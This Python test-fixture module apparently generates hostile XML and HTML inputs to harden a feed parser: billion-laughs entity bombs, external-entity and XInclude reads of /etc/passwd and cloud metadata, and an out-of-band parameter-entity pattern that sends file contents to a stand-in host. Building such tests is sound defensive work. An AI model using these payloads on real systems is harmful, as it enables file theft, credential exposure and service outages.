"""Entities that multiply, or that reach out for files and addresses."""

from __future__ import annotations

from collections.abc import Iterator

from hostile.inputs.bad import GOOD, Bad, bad, entry, feed, page

SECRET = "do not tell 4711 people died"
_ANY = ("recorded", "not_a_feed", "too_large", "empty", "no_text", "too_deep")
_ADDRESSES = (
    "file:///etc/passwd", "file:///proc/self/environ", "file:///dev/zero", "file:///dev/random", "file://localhost/etc/hosts",
    "/etc/passwd", "../../../etc/passwd", "http://127.0.0.1:9/x", "http://169.254.169.254/latest/meta-data/", "http://[::1]/",
    "https://x.invalid/a.dtd", "ftp://127.0.0.1/a", "gopher://127.0.0.1/", "jar:file:///a.zip!/b", "php://filter/resource=/etc/passwd",
    "expect://id", "netdoc:/etc/passwd", "data:text/plain,4711", "@SECRET@",
)  # fmt: skip


def entities() -> Iterator[Bad]:
    """Billion laughs, quadratic blow-up, parameter entities, external entities, XInclude, style sheets."""
    item = entry("Raid", f"{GOOD} &x;")
    for levels, width in ((10, 10), (20, 2), (30, 30), (5, 100), (3, 1000)):
        lines = "".join(
            f'<!ENTITY {chr(97 + at)}{at} "{f"&{chr(96 + at)}{at - 1};" * width}">' if at else '<!ENTITY a0 "ha">'
            for at in range(min(levels, 26))
        )
        top = f"{chr(96 + min(levels, 26))}{min(levels, 26) - 1}"
        laughs = feed(entry("Raid", f"{GOOD} &{top};"), f"<!DOCTYPE r [{lines}]>")
        yield bad("XML entities", f"billion laughs, {levels} levels of {width}", ".xml", laughs, *_ANY)
        yield bad("XML entities", f"laughs on a page, {levels} levels of {width}", ".html", laughs, *_ANY)
    for size, times in ((1_000, 1_000), (50_000, 5_000), (100, 20_000)):
        big = f'<!DOCTYPE r [<!ENTITY x "{"a" * size}">]>'
        yield bad(
            "XML entities", f"{times:,} times {size:,} letters", ".xml", feed(entry("Raid", "&x;" * times), big), *_ANY
        )
    for about, lines in {
        "an entity of itself": '<!ENTITY x "&x;">',
        "two entities of each other": '<!ENTITY x "&y;"><!ENTITY y "&x;">',
        "a parameter entity": "<!ENTITY % p '<!ENTITY x \"4711\">'> %p;",
        "a parameter entity of itself": '<!ENTITY % p "%p;"> %p;',
        "10,000 entities": "".join(f'<!ENTITY e{at} "x">' for at in range(10_000)),
        "an attribute list": '<!ATTLIST rss a CDATA "4711">',
        "a notation": '<!NOTATION n SYSTEM "run"><!ENTITY x SYSTEM "a" NDATA n>',
        "a declaration left open": '<!ENTITY x "',
        "a conditional section": "<![INCLUDE[<!ENTITY x '4711'>]]>",
    }.items():
        yield bad("XML entities", about, ".xml", feed(item, f"<!DOCTYPE r [{lines}]>"), *_ANY)
    for address in _ADDRESSES:
        told = address.replace("@SECRET@", "a file of the tests")[:40]
        external = feed(item, f'<!DOCTYPE r [<!ENTITY x SYSTEM "{address}">]>')
        yield bad("XML entities", f"an entity from {told}", ".xml", external, *_ANY, figures={2})
        dtd = feed(item, f'<!DOCTYPE rss SYSTEM "{address}">')
        yield bad("XML entities", f"a DTD from {told}", ".xml", dtd, *_ANY, figures={2})
        leak = f"<!DOCTYPE r [<!ENTITY % f SYSTEM '{address}'><!ENTITY % e \"<!ENTITY x SYSTEM 'http://x.invalid/%f;'>\">%e;]>"
        yield bad("XML entities", f"a parameter from {told}", ".xml", feed(item, leak), *_ANY, figures={2})
    for address in (_ADDRESSES[0], _ADDRESSES[7], _ADDRESSES[-1]):
        included = f'<item xmlns:xi="http://www.w3.org/2001/XInclude"><description>{GOOD}<xi:include href="{address}" parse="text"/></description></item>'
        yield bad("XML entities", "an inclusion", ".xml", feed(included), *_ANY, figures={2})
        sheet = f'<?xml version="1.0"?><?xml-stylesheet href="{address}"?><rss version="2.0"><channel>{entry("a", GOOD)}</channel></rss>'
        yield bad("XML entities", "a style sheet", ".xml", sheet, *_ANY, figures={2})
        drawn = (
            f"<p>{GOOD}</p><iframe src='{address}'></iframe><img src='{address}'><link rel=stylesheet href='{address}'>"
        )
        yield bad("XML entities", "what a page would load", ".html", page(drawn), figures={2})
        base = page(f"<base href='{address}'><object data='{address}'></object><p>{GOOD}</p>")
        yield bad("XML entities", "a page's own address", ".html", base, figures={2})
    for about, words in (("10^400", "&#" + "9" * 400 + ";"), ("NUL", "&#0;"), ("a surrogate", "&#xD800;"), ("beyond Unicode", "&#x110000;"),
                         ("no name", "&;"), ("an unknown name", "&nosuch;"), ("without end", "&" + "a" * 100_000), ("many", "&amp;" * 100_000)):  # fmt: skip
        yield bad("XML entities", f"a reference: {about}", ".html", page(f"<p>{GOOD} {words}</p>"), figures={2})
        yield bad(
            "XML entities", f"a reference in a feed: {about}", ".xml", feed(entry("Raid", f"{GOOD} {words}")), *_ANY
        )
